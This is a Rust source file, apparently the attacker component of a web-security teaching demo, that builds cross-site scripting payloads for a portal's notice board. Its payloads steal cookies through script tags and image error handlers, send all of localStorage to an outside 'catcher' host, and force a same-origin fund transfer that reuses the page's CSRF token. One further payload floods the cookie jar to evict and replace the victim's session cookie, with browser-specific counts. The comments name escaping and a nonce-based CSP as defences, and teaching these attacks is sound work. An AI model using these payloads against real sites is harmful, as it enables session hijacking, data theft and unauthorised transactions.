//! The scripts that the attacker plants on the portal's notice board. The attacker's pages show
//! them as text, and the attacks post them: one source for both.
//!
//! They run in the victim's browser, in the portal's page, with the portal's origin. So no rule
//! between origins is in their way. Each is short, because a notice is. Two defences stop them all:
//! `output`, which shows them as text, and `csp`, which forbids scripts without the page's nonce.

/// Loads an image whose address carries `document.cookie` to the catcher. An image may come from
/// any site, and the request for it needs no answer. With `HttpOnly` the text of `document.cookie`
/// lacks the session.
pub fn steal_cookie(catcher: &str) -> String {
    format!("<script>new Image().src={}</script>", report(catcher))
}

/// The same without a script tag: a broken image runs its error handler. It is why a filter that
/// removes `<script>` is no defence, and why `csp` must also forbid inline handlers. The handler
/// removes itself, or the failed report would run it again.
pub fn steal_cookie_by_handler(catcher: &str) -> String {
    let report = report(catcher);
    format!("<img src=\"data:,\" onerror=\"this.onerror=null;this.src={report}\">")
}

// Encoded, because a cookie may contain characters that would end the address.
fn report(catcher: &str) -> String {
    format!("'{catcher}?cookie='+encodeURIComponent(document.cookie)")
}

/// Loads an image whose address carries everything in `localStorage` to the catcher. No name of an
/// item has to be known.
pub fn steal_storage(catcher: &str) -> String {
    format!(
        "<script>new Image().src='{catcher}?storage='+encodeURIComponent(JSON.stringify(localStorage))\
         </script>"
    )
}

/// Posts the transfer form from the victim's own page, with the token in that page. The request is
/// same-origin, so the browser adds the cookie and the portal's own `Origin`. Where the page has no
/// token, the policy asks for none.
pub fn ride_session() -> String {
    "<script>f=new URLSearchParams({to:'mallory',amount:'1'});\
     t=document.querySelector('[name=csrf_token]');\
     if(t)f.set('csrf_token',t.value);\
     fetch('transfer',{method:'POST',body:f})</script>"
        .to_owned()
}

/// Fills the jar until the browser deletes the session cookie, sets it again with this id, and
/// removes the filling.
///
/// 200 cookies displace one without `Secure`, and 3,000 also one with it, as measured in Chromium
/// and Firefox. `Secure` is written wherever the page may do so: cookies without it are deleted
/// first, so they would never displace one that has it (RFC 6265bis §5.7). Chromium writes cookies
/// behind the script's back; reading waits for them. The filling is removed at the end, so that the
/// victim sees one session cookie, as before.
pub fn overflow(name: &str, id: &str) -> String {
    format!(
        "<script>d=document;d.documentElement.dataset.done=0;s=isSecureContext?';secure':'';\
         w=(v)=>{{for(i=0;i<3000;i++){{d.cookie='o'+i+v+';path=/'+s;if(i%99==0)d.cookie}}}};\
         setTimeout(()=>{{w('=1');d.cookie='{name}={id};path=/'+s;w('=;max-age=0');d.cookie;\
         d.documentElement.dataset.done=1}})</script>"
    )
}
